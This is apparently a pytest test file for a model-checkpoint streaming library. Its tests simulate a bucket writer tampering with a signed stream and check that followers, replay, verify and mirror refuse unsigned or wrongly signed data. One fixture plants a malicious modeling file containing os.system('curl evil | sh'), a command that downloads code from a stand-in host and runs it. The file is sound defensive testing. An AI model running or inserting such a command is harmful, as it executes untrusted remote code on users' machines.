"""The chain of trust (deltasync/trust.py, docs/FORMAT.md section 5e), attacked as issue 30 items 1-7 did: each
test plays a bucket writer (or a leaked retired key, or a template that did not expand) against a signed stream,
and checks that every consumer (follower, replay, verify, mirror, a signing publisher) refuses what no trusted
signature covers, names why, and keeps its last good step. The reference for the weights is the trainer's own
state at each step."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
import torch

from deltasync import DeltaPublisher, StreamReader
from deltasync.errors import (
    ConfigError,
    RollbackError,
    SignatureError,
    StaleStreamError,
    UntrustedKeyError,
)
from deltasync.history.mirror import mirror
from deltasync.history.rebuild import replay_to_folder
from deltasync.history.verify import verify
from deltasync.signing import SIGNATURE, keygen
from deltasync.trust import TrustedKeys
from rollout_loader import Follower, PollPolicy, StateDictTarget
from tests.test_signing import STREAM, _publish, _same, _state, _step_dir, trust

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def keys(tmp_path):
    return keygen(tmp_path / "trainer.key")


@pytest.fixture
def cli(monkeypatch, capsys):
    """The command line's real entry point, in this process (a fresh interpreter per call costs seconds)."""
    from tests.test_cli_errors import run_main

    def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
        for name, value in (env or {}).items():
            monkeypatch.setenv(name, value)
        code, out, err = run_main(monkeypatch, capsys, *args)
        return subprocess.CompletedProcess(args, code, out, err)

    return run


def _held(follower: Follower) -> dict[str, torch.Tensor]:
    return {n: t.clone() for n, t in follower.target.state_dict().items()}  # type: ignore[union-attr]


# --- item 1: the stream a follower follows is pinned, never read from the store ---


def test_another_streams_steps_under_its_stream_json_are_refused(tmp_path, keys, cli):
    """One key signs runs A and B; a bucket writer of B copies A's stream.json and steps into B. A follower of B
    (key and stream pinned) refuses every step of A; verify says so; keys without a stream are refused."""
    a, b = tmp_path / "run-a", tmp_path / "run-b"
    _publish(str(a), keys[0], range(6), _state(1), stream_id="run-a")
    truth_b = _publish(str(b), keys[0], range(3), _state(2), stream_id="run-b")
    shutil.rmtree(b / "steps")
    shutil.copytree(a / "steps", b / "steps")
    shutil.copy(a / "stream.json", b / "stream.json")
    shutil.copy(a / "latest.json", b / "latest.json")
    follower = Follower(str(b), StateDictTarget(), trusted_keys=trust(keys[1], stream_id="run-b"))
    try:
        with pytest.raises(SignatureError, match="stream_id=\"run-a\" where the stream has \"run-b\""):
            follower.sync(5)
        assert follower.target.step is None
    finally:
        follower.close()
    r = cli("verify", str(b), "--trusted-key", str(keys[1]), "--stream-id", "run-b")
    assert r.returncode == 1 and "step 0: signature:" in r.stdout and "run-a" in r.stdout, r.stdout + r.stderr
    with pytest.raises(ConfigError, match="need the id of the stream they sign for"):
        Follower(str(b), StateDictTarget(), trusted_keys=TrustedKeys.load([keys[1]]))
    r = cli("verify", str(b), "--trusted-key", str(keys[1]))
    assert r.returncode == 2 and "need the id of the stream" in r.stderr, r.stderr
    # the real run-b, pinned, reads as it was written
    shutil.rmtree(b)
    _publish(str(b), keys[0], range(3), _state(2), stream_id="run-b")
    with StreamReader(str(b), trusted_keys=trust(keys[1], stream_id="run-b")) as reader:
        assert _same(reader.state_dict(2), truth_b[2])


def test_a_signing_publisher_signs_for_its_own_stream_only(tmp_path, keys):
    """A trainer told its stream refuses a location whose stream.json names another; one that was not told checks
    stream.json against the steps its own key signed (a bucket writer replaced it)."""
    url = tmp_path / "s"
    _publish(str(url), keys[0], range(2), _state(), stream_id="run-b")
    with pytest.raises(ConfigError, match="names stream 'run-b', this publisher was told to write stream 'run-c'"):
        DeltaPublisher(str(url), _state(), signing_key=keys[0], stream_id="run-c")
    info = json.loads((url / "stream.json").read_text())
    (url / "stream.json").write_text(json.dumps({**info, "stream_id": "run-a"}))
    with DeltaPublisher(str(url), _state(), signing_key=keys[0]) as pub:  # not told: stream.json says run-a
        assert pub.stream_id == "run-a" and pub.last_committed_step is None  # nothing of run-a is its own


# --- item 2: model files are covered by the signature, or refused ---


def _files(tmp_path: Path) -> Path:
    folder = tmp_path / "model-files"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "toy", "hidden_size": 32}))
    (folder / "tokenizer.json").write_text("{}")
    return folder


def _rewrite_model_files(stream: Path) -> None:
    """What a bucket writer does: custom code in, config.json pointing at it, files.json recomputed."""
    import hashlib

    evil = {"config.json": json.dumps({"model_type": "toy", "auto_map": {"AutoModel": "modeling_evil.Evil"}}),
            "modeling_evil.py": "import os\nos.system('curl evil | sh')\n"}
    index = json.loads((stream / "files.json").read_text())
    for name, text in evil.items():
        (stream / "files" / name).write_text(text)
        index["files"][name] = {"bytes": len(text.encode()), "sha256": hashlib.sha256(text.encode()).hexdigest()}
    (stream / "files.json").write_text(json.dumps(index))


def test_model_files_outside_a_signature_are_refused_by_replay_and_mirror(tmp_path, keys, cli):
    stream = tmp_path / "stream"
    _publish(str(stream), keys[0], range(3), _state(), files=_files(tmp_path))
    with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:  # signed as written: exported
        r = replay_to_folder(reader, 2, tmp_path / "good")
        assert r.model_files == ("config.json", "tokenizer.json")
    report = mirror(str(stream), str(tmp_path / "copy-good"), trusted_keys=trust(keys[1]))
    assert report.files_copied and (tmp_path / "copy-good" / "files" / "config.json").exists()
    _rewrite_model_files(stream)
    with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:
        with pytest.raises(SignatureError, match="files.json is not the one step 2 was signed with"):
            replay_to_folder(reader, 2, tmp_path / "out")
        assert not (tmp_path / "out").exists()
        r = replay_to_folder(reader, 2, tmp_path / "weights", model_files=False)  # the weights alone: signed
        assert r.model_files == () and not (tmp_path / "weights" / "config.json").exists()
    ecdsa = tmp_path / "export"
    assert cli("keygen", "--ecdsa", str(ecdsa)).returncode == 0
    r = cli("replay", str(stream), "--step", "2", "-o", str(tmp_path / "signed"), "--trusted-key", str(keys[1]),
             "--stream-id", STREAM, "--sign", str(ecdsa))  # never signed into an export either
    assert r.returncode == 2 and "SignatureError" in r.stderr and not (tmp_path / "signed").exists(), r.stderr
    report = mirror(str(stream), str(tmp_path / "copy"), trusted_keys=trust(keys[1]))
    assert report.copied == (0, 1, 2) and not report.files_copied
    assert not (tmp_path / "copy" / "files").exists() and not (tmp_path / "copy" / "files.json").exists()


# --- item 3: every field of the manifest is covered ---


def test_any_change_to_a_signed_manifest_is_refused(tmp_path, keys):
    """The statement names the manifest's SHA-256 as stored: a field no earlier statement named (an anchor's own
    delta, stats, a field added) cannot change. The multi-part case (aliases) is in tests/test_sharded.py."""
    stream = tmp_path / "stream"
    _publish(str(stream), keys[0], range(6), _state())
    path = _step_dir(stream, 4) / "manifest.json"
    original = path.read_bytes()
    m = json.loads(original)
    for edit in ({**m, "stats": {**m["stats"], "density": 0.5}}, {**m, "created_unix_s": 1.0}, {**m, "delta": None},
                 {**m, "unknown_field": 1}):
        path.write_text(json.dumps(edit))
        with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:
            with pytest.raises(SignatureError, match="step 4 is signed, but for other contents: .*manifest="):
                reader.manifest(4)
    path.write_bytes(original)
    with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:
        assert reader.manifest(4).step == 4


# --- item 4: a forged manifest stops no follower and no publisher ---


def _forge(stream: Path, step: int, like: int) -> None:
    """An unsigned manifest at ``step``: a copy of step ``like``'s with the number changed, and latest.json on it."""
    folder = _step_dir(stream, step)
    shutil.copytree(_step_dir(stream, like), folder)
    (folder / SIGNATURE).unlink()
    m = json.loads((folder / "manifest.json").read_text())
    (folder / "manifest.json").write_text(json.dumps({**m, "step": step}))
    (stream / "latest.json").write_text(json.dumps({"step": step}))


def test_a_forged_manifest_far_ahead_stops_no_follower_and_no_publisher(tmp_path, keys):
    stream = tmp_path / "stream"
    state = _state()
    truth = _publish(str(stream), keys[0], range(4), state, anchor_every=100)
    _forge(stream, 10**12 - 1, like=3)
    with Follower(str(stream), StateDictTarget(verify="full"), trusted_keys=trust(keys[1]),
                  policy=PollPolicy(fast_s=0.01)) as follower:
        assert follower.wait_for(3, timeout_s=60) == 3 and follower.newest_step == 3
        # the trainer restarts: it resumes after its own newest step, publishes on, announces only its own steps
        heard: list[int] = []
        with DeltaPublisher(str(stream), state, signing_key=keys[0], stream_id=STREAM, on_backlog="block",
                            events="127.0.0.1:0", anchor_every=100) as pub:
            from deltasync.notify import EventFeed

            assert pub.last_committed_step == 3
            feed = EventFeed(pub.events_url)
            try:
                feed.subscribe(heard.append)
                for s in (4, 5):
                    state["w"][s] += 1.0
                    pub.publish(s)
                    truth[s] = {n: t.clone() for n, t in state.items()}
                pub.flush()
                assert follower.wait_for(5, timeout_s=60) == 5
            finally:
                feed.close()
        assert 10**12 - 1 not in heard
        assert _same(follower.target.state_dict(), truth[5])  # type: ignore[union-attr]
    with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:
        assert reader.latest_step() == 5 and 10**12 - 1 in reader.refused


# --- item 5: rollback and freezing are detected ---


def test_a_deleted_tail_is_a_rollback_and_an_old_head_is_stale(tmp_path, keys, cli):
    stream = tmp_path / "stream"
    state = _state()
    truth = _publish(str(stream), keys[0], range(6), state, anchor_every=2)
    old_latest = None
    # a head as the trainer signed it after step 3 (what an attacker saved to replay later)
    with StreamReader(str(stream)) as plain:
        assert plain.store.latest_hint().head_bytes is not None  # the closed head, step 5
    head = json.loads((stream / "latest.json").read_text())["head"]
    assert json.loads(head["statement"])["closed"] is True and json.loads(head["statement"])["step"] == 5
    for s in (4, 5):  # the attacker deletes the tail and leaves latest.json (with its signed head) as it is
        shutil.rmtree(_step_dir(stream, s))
    follower = Follower(str(stream), StateDictTarget(), trusted_keys=trust(keys[1]))
    try:
        with pytest.raises(RollbackError, match="names step 5 as the newest, but the store holds no trusted step"):
            follower.sync()
        assert follower.target.step is None
    finally:
        follower.close()
    r = cli("verify", str(stream), "--trusted-key", str(keys[1]), "--stream-id", STREAM)
    assert r.returncode == 1 and "step 5: head:" in r.stdout and "rollback" in r.stdout, r.stdout + r.stderr
    # latest.json replaced by one without a head (or an old one): a follower that requires freshness refuses
    old_latest = {"step": 3}
    (stream / "latest.json").write_text(json.dumps(old_latest))
    fresh = trust(keys[1], max_age_s=3600)
    follower = Follower(str(stream), StateDictTarget(), trusted_keys=fresh)
    try:
        with pytest.raises(StaleStreamError, match="no valid signed head"):
            follower.sync()
    finally:
        follower.close()
    # without max_age_s the follower settles on step 3: what a follower cannot know (docs/FORMAT.md section 5e)
    follower = Follower(str(stream), StateDictTarget(), trusted_keys=trust(keys[1]))
    try:
        assert follower.sync()[-1] == 3 and _same(follower.target.state_dict(), truth[3])
    finally:
        follower.close()


def test_heads_are_signed_after_each_commit_refreshed_and_closed(tmp_path, keys):
    from deltasync.follow.watch import StepWatch

    def watch(wall: float | None = None) -> StepWatch:
        reader = StreamReader(str(stream), trusted_keys=trust(keys[1], max_age_s=60))
        return StepWatch(reader) if wall is None else StepWatch(reader, wall=lambda: wall)

    stream = tmp_path / "stream"
    pub = DeltaPublisher(str(stream), _state(), signing_key=keys[0], stream_id=STREAM, on_backlog="block")
    try:
        pub.publish(0)
        pub.flush()
        w = watch()
        assert w.newest() == 0 and w.head is not None and not w.head.closed and w.head.step == 0
        first = w.head.signed_unix_s
        with pytest.raises(StaleStreamError, match="older than max_age_s=60"):  # an hour later, if nothing signs
            watch(first + 3600).newest()
        import time

        time.sleep(0.01)  # heads count milliseconds
        pub._renew_lease()  # what the publisher's thread does every lease_s / 3 while idle
        w = watch()
        assert w.newest() == 0 and w.head is not None and w.head.signed_unix_s > first and not w.head.closed
    finally:
        pub.close()
    w = watch(first + 10**6)
    assert w.newest() == 0 and w.head is not None and w.head.closed  # closed: no freshness needed after it


# --- item 6: rotation order and revocation ---


def test_a_leaked_retired_key_cannot_sign_past_the_rotation(tmp_path, keys, cli):
    """A rotates to B from step 4; a leaked A signs step 8 on B's step 7. A new follower, replay and verify refuse
    it (the chain's signatures are accepted oldest first), the follower goes on to step 7; revoking A (CLI, engine
    settings) refuses A's steps outright."""
    stream = tmp_path / "stream"
    state = _state()
    truth = _publish(str(stream), keys[0], range(4), state)
    new = keygen(tmp_path / "next.key", endorsed_by=keys[0], from_step=4)
    truth |= _publish(str(stream), new[0], range(4, 8), state)
    _leaked_delta(stream, tmp_path, 8, keys[0], state)
    with Follower(str(stream), StateDictTarget(verify="full"), trusted_keys=trust(keys[1]),
                  policy=PollPolicy(fast_s=0.01)) as follower:
        assert follower.wait_for(7, timeout_s=60) == 7
        assert _same(follower.target.state_dict(), truth[7])  # type: ignore[union-attr]
    with StreamReader(str(stream), trusted_keys=trust(keys[1])) as reader:
        with pytest.raises(UntrustedKeyError, match="handed signing over to another key from step 4"):
            replay_to_folder(reader, 8, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    report = verify(str(stream), trusted_keys=trust(keys[1]), all_problems=True)
    assert [p.step for p in report.problems] == [8] and report.problems[0].kind == "signature"
    # revocation, from the CLI: nothing the old key signed is trusted
    r = cli("replay", str(stream), "--step", "2", "-o", str(tmp_path / "r"), "--trusted-key", str(keys[1]),
             "--revoked-key", str(keys[1]), "--stream-id", STREAM)
    assert r.returncode == 2 and "revoked" in r.stderr, r.stderr
    # and in the one record that crosses to an engine
    revoked = trust(keys[1], revoked=[keys[1]])
    again = TrustedKeys.from_info(json.loads(json.dumps(revoked.to_info())))
    assert again.setting() == revoked.setting()
    with StreamReader(str(stream), trusted_keys=again) as reader:
        with pytest.raises(UntrustedKeyError, match="revoked"):
            reader.manifest(5)  # B's step: B was endorsed by a revoked key


def _leaked_delta(stream: Path, tmp_path: Path, step: int, key: Path, state: dict[str, torch.Tensor]) -> None:
    """What the holder of a leaked retired key does: a delta on the stream's newest step (``deltasync push``,
    unsigned), then signed with the leaked key over exactly what is stored."""
    from safetensors.torch import save_file

    from deltasync.history.push import push_checkpoint
    from deltasync.signing import SigningKey, StreamSigner
    from deltasync.store import Store

    changed = {n: t.clone() for n, t in state.items()}
    changed["w"][0, :8] += 7.0
    save_file(changed, tmp_path / "leak.safetensors")
    m = push_checkpoint(str(stream), step, tmp_path / "leak.safetensors")
    assert m.kind == "delta"
    body = Store(str(stream)).manifest_record(step)[2]
    signer = StreamSigner(key=SigningKey(key), stream_id=STREAM)
    (_step_dir(stream, step) / SIGNATURE).write_bytes(signer.sign_step(m, body))


# --- item 7: an empty or unparsable trust setting is an error ---


@pytest.mark.parametrize("value", ["", ":", "KEY:", ":KEY"])
def test_an_empty_or_broken_trust_setting_fails_closed(tmp_path, keys, value, cli):
    stream = tmp_path / "stream"
    _publish(str(stream), None, range(2), _state())  # unsigned: replaying it would prove the check was off
    env = {"DELTASYNC_TRUSTED_KEYS": value.replace("KEY", str(keys[1])), "DELTASYNC_STREAM_ID": STREAM}
    r = cli("replay", str(stream), "--step", "1", "-o", str(tmp_path / "out"), env=env)
    assert r.returncode == 2 and r.stderr.startswith("error: ConfigError: DELTASYNC_TRUSTED_KEYS"), r.stderr
    assert not (tmp_path / "out").exists()


def test_trust_settings_are_checked_where_they_are_made(keys, cli):
    for bad, match in (([], "none given"), ("", "cannot read"), ([keys[1]], "need the id of the stream")):
        with pytest.raises(ConfigError, match=match):
            TrustedKeys.load(bad, stream_id=None)
    with pytest.raises(ConfigError, match="expected a stream id"):
        TrustedKeys.load([keys[1]], stream_id="../x")
    with pytest.raises(ConfigError, match="max_age_s"):
        TrustedKeys.load([keys[1]], stream_id=STREAM, max_age_s=float("nan"))
    with pytest.raises(ConfigError, match="unknown field"):
        TrustedKeys.from_info({"keys": [], "stream": "x"})
    r = cli("verify", "/nonexistent", "--stream-id", STREAM, "--max-age-s", "60")
    assert r.returncode == 2 and "given without --trusted-key" in r.stderr, r.stderr


def test_a_deleted_stream_json_does_not_give_a_signing_trainer_a_new_identity(tmp_path, keys):
    """Outsider pass: a bucket writer deletes stream.json; a signing trainer restarting without its stream id
    would otherwise make a new random one and sign steps no pinned follower accepts. It is refused, naming the fix;
    one that knows its id recreates stream.json with it and resumes after its own newest step."""
    stream = tmp_path / "stream"
    _publish(str(stream), keys[0], range(3), _state())
    (stream / "stream.json").unlink()
    with pytest.raises(ConfigError, match="has steps but no stream.json"):
        DeltaPublisher(str(stream), _state(), signing_key=keys[0])
    assert not (stream / "stream.json").exists() and not (stream / "writer.json").exists()
    with DeltaPublisher(str(stream), _state(), signing_key=keys[0], stream_id=STREAM) as pub:
        assert pub.last_committed_step == 2 and pub.stream_id == STREAM
